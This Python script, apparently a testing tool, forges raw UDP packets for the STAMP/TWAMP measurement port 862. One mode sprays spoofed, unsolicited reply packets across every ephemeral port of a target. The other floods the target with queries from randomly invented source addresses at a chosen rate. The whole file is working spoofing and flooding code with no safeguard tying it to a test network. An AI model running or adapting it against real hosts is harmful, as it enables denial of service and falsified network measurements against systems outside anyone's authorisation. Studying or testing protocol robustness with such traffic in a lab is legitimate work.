#!/usr/bin/python3
"""Test packets in others' names.

stamp_noise.py forge FROM TO: answers that nobody asked for, to every port that a client may have.
stamp_noise.py flood TO SECONDS RATE: questions from invented addresses of 10.88.0.0/16.
"""
import os
import random
import socket
import struct
import sys
import time

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send(source, target, source_port, target_port, payload):
    udp = struct.pack("!HHHH", source_port, target_port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 255, 17, 0, source, target)
    try:
        raw.sendto(ip + udp, (socket.inet_ntoa(target), 0))
    except OSError:
        pass


if sys.argv[1] == "forge":
    source, target = map(socket.inet_aton, sys.argv[2:4])
    for number in (0, 2, 5):
        for port in range(32768, 61000):
            stamp = struct.pack("!Q", (int(time.time()) + 2208988800) << 32)
            answer = struct.pack("!I8sHH8sI8sHHB3x", 0, stamp, 1, 0, stamp, number, stamp, 1, 0, 255)
            send(source, target, 862, port, answer)
else:
    target, until, rate, sent = socket.inet_aton(sys.argv[2]), time.time() + float(sys.argv[3]), float(sys.argv[4]), 0
    begin = time.time()
    while time.time() < until:
        if sent > (time.time() - begin) * rate:
            time.sleep(0.001)
            continue
        sent += 1
        question = struct.pack("!I8sHH28x", random.randrange(4), os.urandom(8), 1, random.randrange(65536))
        send(b"\x0a\x58" + os.urandom(2), target, random.randrange(2000, 65000), 862, question)
    print(sent)
